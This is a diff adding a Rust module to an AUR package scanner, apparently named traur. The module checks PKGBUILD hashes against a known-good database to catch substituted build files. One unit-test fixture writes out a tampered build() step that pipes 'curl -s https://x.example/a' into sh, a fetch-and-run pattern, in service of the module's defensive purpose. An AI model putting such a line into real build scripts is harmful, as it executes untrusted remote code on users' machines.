@@ -0,0 +1,285 @@
+//! Known-good PKGBUILD hashes for popular AUR packages.
+//!
+//! The database maps a package base to the SHA-256 of the PKGBUILD aur.archlinux.org
+//! serves for its current version, i.e. the one everybody else is building. A local
+//! clone that matches gets a small trust credit; one that differs at the same version
+//! points at a PKGBUILD substituted on the way to this machine (poisoned git cache,
+//! mirror or MITM) rather than anything the maintainer pushed.
+//!
+//! The database is generated with `traur known-good build` and fetched from
+//! `[known_good] url`; it is cached in the cache directory between fetches.
+
+use crate::shared::cache;
+use crate::shared::config::KnownGoodConfig;
+#[cfg(feature = "native")]
+use crate::shared::runtime;
+use crate::shared::scoring::{self, ScanResult, Signal, SignalCategory};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+#[cfg(feature = "native")]
+use std::time::SystemTime;
+
+/// Signal for a PKGBUILD that matches the consensus hash.
+pub const MATCH_SIGNAL: &str = "M-KNOWN-GOOD-HASH";
+
+/// Signal for a PKGBUILD that differs from the consensus hash at the same version.
+pub const MISMATCH_SIGNAL: &str = "P-KNOWN-GOOD-MISMATCH";
+
+/// Informational signal for a PKGBUILD that differs at the same version after the
+/// maintainer pushed again without bumping it.
+pub const EDITED_SIGNAL: &str = "M-KNOWN-GOOD-EDITED";
+
+/// Trust points added to a package whose PKGBUILD matches the consensus hash.
+pub const MATCH_CREDIT: u32 = 10;
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct KnownGoodDb {
+    /// Unix time the hashes were collected.
+    #[serde(default)]
+    pub generated: u64,
+    /// Current PKGBUILD per package base.
+    pub packages: BTreeMap<String, KnownPkgbuild>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct KnownPkgbuild {
+    /// `[epoch:]pkgver-pkgrel` the hash was taken at.
+    pub version: String,
+    /// SHA-256 of the PKGBUILD, lowercase hex.
+    pub sha256: String,
+    /// AUR `LastModified` (Unix time of the last push) the hash was taken at. 0 in
+    /// databases built before it was recorded.
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub last_modified: u64,
+}
+
+fn is_zero(n: &u64) -> bool {
+    *n == 0
+}
+
+pub fn sha256_hex(content: &str) -> String {
+    Sha256::digest(content.as_bytes()).iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// Compare a scanned PKGBUILD with the database entry for its package base. Only the
+/// same version is compared: the database lags behind updates until it is regenerated,
+/// and a different hash for a newer version means nothing.
+///
+/// Maintainers also push fixes without bumping pkgrel. `last_modified` is the AUR RPC's
+/// (a different channel than the git clone a substitution would poison): when the
+/// package was pushed after the hash was taken, a mismatch is only reported as
+/// informational.
+pub fn check(
+    db: &KnownGoodDb,
+    package_base: &str,
+    version: &str,
+    last_modified: u64,
+    pkgbuild: &str,
+) -> Option<Signal> {
+    let known = db.packages.get(package_base).filter(|k| k.version == version)?;
+    let hash = sha256_hex(pkgbuild);
+    if hash == known.sha256 {
+        return Some(Signal {
+            id: MATCH_SIGNAL.to_string(),
+            category: SignalCategory::Metadata,
+            points: 0,
+            description: format!("PKGBUILD matches the one other users see for {version}"),
+            is_override_gate: false,
+            matched_line: None,
+            location: None,
+            emitted_by: String::new(),
+        });
+    }
+    let pushed_since = match known.last_modified {
+        0 => db.generated > 0 && last_modified > db.generated,
+        taken_at => last_modified != taken_at,
+    };
+    if pushed_since {
+        return Some(Signal {
+            id: EDITED_SIGNAL.to_string(),
+            category: SignalCategory::Metadata,
+            points: 0,
+            description: format!(
+                "PKGBUILD for {version} was changed on the AUR after the known-good hash was taken; not compared"
+            ),
+            is_override_gate: false,
+            matched_line: Some(format!("sha256 {hash}, known {}", known.sha256)),
+            location: None,
+            emitted_by: String::new(),
+        });
+    }
+    Some(Signal {
+        id: MISMATCH_SIGNAL.to_string(),
+        category: SignalCategory::Pkgbuild,
+        points: 70,
+        description: format!(
+            "PKGBUILD differs from the one other users see for {version} (possible targeted substitution)"
+        ),
+        is_override_gate: false,
+        matched_line: Some(format!("sha256 {hash}, expected {}", known.sha256)),
+        location: None,
+        emitted_by: String::new(),
+    })
+}
+
+/// Credit a consensus match in the final score. Never lifts a package out of an
+/// override gate.
+pub fn apply_credit(result: &mut ScanResult) {
+    if result.override_gate_fired.is_none() && result.signals.iter().any(|s| s.id == MATCH_SIGNAL) {
+        result.score = (result.score + MATCH_CREDIT).min(100);
+        // Never worse than before: the tier may already be capped by the new-package grace
+        result.tier = result.tier.min(scoring::score_to_tier(result.score));
+    }
+}
+
+static DATABASE: OnceLock<Option<KnownGoodDb>> = OnceLock::new();
+
+/// The database for this process: the cached copy, refetched from `[known_good] url`
+/// once it is older than `max_age_hours`. A failed refetch falls back to the stale copy.
+pub fn database(config: &KnownGoodConfig) -> Option<&'static KnownGoodDb> {
+    DATABASE.get_or_init(|| load(config)).as_ref()
+}
+
+#[cfg_attr(not(feature = "native"), allow(unused_variables))]
+fn load(config: &KnownGoodConfig) -> Option<KnownGoodDb> {
+    let path = cache_path();
+    #[cfg(feature = "native")]
+    if let Some(db) = refresh(config, &path) {
+        return Some(db);
+    }
+    read(&path).ok()
+}
+
+/// A new copy from `[known_good] url` when the one at `path` is missing or stale.
+#[cfg(feature = "native")]
+fn refresh(config: &KnownGoodConfig, path: &Path) -> Option<KnownGoodDb> {
+    let url = config.url.as_ref()?;
+    let age = std::fs::metadata(path)
+        .and_then(|m| m.modified())
+        .ok()
+        .and_then(|modified| SystemTime::now().duration_since(modified).ok());
+    if age.is_some_and(|age| age <= config.max_age()) {
+        return None;
+    }
+    fetch(url)
+        .and_then(|db| install(&db).map(|_| db))
+        .map_err(|e| eprintln!("traur: known-good database update failed: {e}"))
+        .ok()
+}
+
+/// Where the current database is cached.
+pub fn cache_path() -> PathBuf {
+    cache::cache_dir().join("known-good.json")
+}
+
+/// Fetch a database published at `url`.
+#[cfg(feature = "native")]
+pub fn fetch(url: &str) -> Result<KnownGoodDb, String> {
+    runtime::block_on(async {
+        runtime::client()
+            .get(url)
+            .timeout(runtime::request_timeout())
+            .send()
+            .await
+            .and_then(|r| r.error_for_status())
+            .map_err(|e| format!("HTTP request failed: {e}"))?
+            .json()
+            .await
+            .map_err(|e| format!("Failed to parse known-good database: {e}"))
+    })
+}
+
+pub fn read(path: &Path) -> Result<KnownGoodDb, String> {
+    let content =
+        std::fs::read_to_string(path).map_err(|e| format!("Failed to read {}: {e}", path.display()))?;
+    serde_json::from_str(&content).map_err(|e| format!("Failed to parse {}: {e}", path.display()))
+}
+
+/// Make `db` the cached database used by scans.
+pub fn install(db: &KnownGoodDb) -> Result<PathBuf, String> {
+    let path = cache_path();
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir).map_err(|e| format!("Failed to create {}: {e}", dir.display()))?;
+    }
+    let json = serde_json::to_string(db).map_err(|e| e.to_string())?;
+    std::fs::write(&path, json).map_err(|e| format!("Failed to write {}: {e}", path.display()))?;
+    Ok(path)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PKGBUILD: &str = "pkgname=foo\npkgver=1.0\npkgrel=1\n";
+
+    fn db() -> KnownGoodDb {
+        let mut db = KnownGoodDb::default();
+        db.packages.insert(
+            "foo".to_string(),
+            KnownPkgbuild { version: "1.0-1".to_string(), sha256: sha256_hex(PKGBUILD), last_modified: 1_700_000_000 },
+        );
+        db
+    }
+
+    #[test]
+    fn sha256_of_known_input() {
+        assert_eq!(sha256_hex("abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+    }
+
+    #[test]
+    fn matches_and_mismatches_at_the_same_version() {
+        let db = db();
+        let matched = check(&db, "foo", "1.0-1", 1_700_000_000, PKGBUILD).unwrap();
+        assert_eq!((matched.id.as_str(), matched.points), (MATCH_SIGNAL, 0));
+
+        let tampered = format!("{PKGBUILD}build() {{ curl -s https://x.example/a | sh; }}\n");
+        let mismatch = check(&db, "foo", "1.0-1", 1_700_000_000, &tampered).unwrap();
+        assert_eq!((mismatch.id.as_str(), mismatch.points), (MISMATCH_SIGNAL, 70));
+
+        // A newer version than the database knows, or an unknown package: no verdict.
+        assert!(check(&db, "foo", "1.1-1", 1_700_000_000, &tampered).is_none());
+        assert!(check(&db, "bar", "1.0-1", 1_700_000_000, PKGBUILD).is_none());
+    }
+
+    #[test]
+    fn same_version_edit_pushed_later_is_informational() {
+        let mut db = db();
+        let edited = format!("{PKGBUILD}depends=(glibc)\n");
+        let signal = check(&db, "foo", "1.0-1", 1_700_086_400, &edited).unwrap();
+        assert_eq!((signal.id.as_str(), signal.points), (EDITED_SIGNAL, 0));
+
+        // Entries from older databases fall back to when the database was generated
+        db.generated = 1_700_000_500;
+        db.packages.get_mut("foo").unwrap().last_modified = 0;
+        assert_eq!(check(&db, "foo", "1.0-1", 1_700_086_400, &edited).unwrap().id, EDITED_SIGNAL);
+        assert_eq!(check(&db, "foo", "1.0-1", 1_700_000_000, &edited).unwrap().id, MISMATCH_SIGNAL);
+    }
+
+    #[test]
+    fn credit_raises_score_unless_gated() {
+        let signal = check(&db(), "foo", "1.0-1", 1_700_000_000, PKGBUILD).unwrap();
+        let low_votes = Signal {
+            id: "M-VOTES-ZERO".into(),
+            category: SignalCategory::Metadata,
+            points: 30,
+            description: String::new(),
+            is_override_gate: false,
+            matched_line: None,
+            location: None,
+            emitted_by: String::new(),
+        };
+        let mut result = scoring::compute_score("foo", &[signal.clone(), low_votes]);
+        let before = result.score;
+        apply_credit(&mut result);
+        assert_eq!(result.score, (before + MATCH_CREDIT).min(100));
+
+        let gate = Signal { id: "P-CURL-PIPE".into(), points: 90, is_override_gate: true, ..signal.clone() };
+        let mut result = scoring::compute_score("foo", &[signal, gate]);
+        let before = result.score;
+        apply_credit(&mut result);
+        assert_eq!(result.score, before);
+    }
+}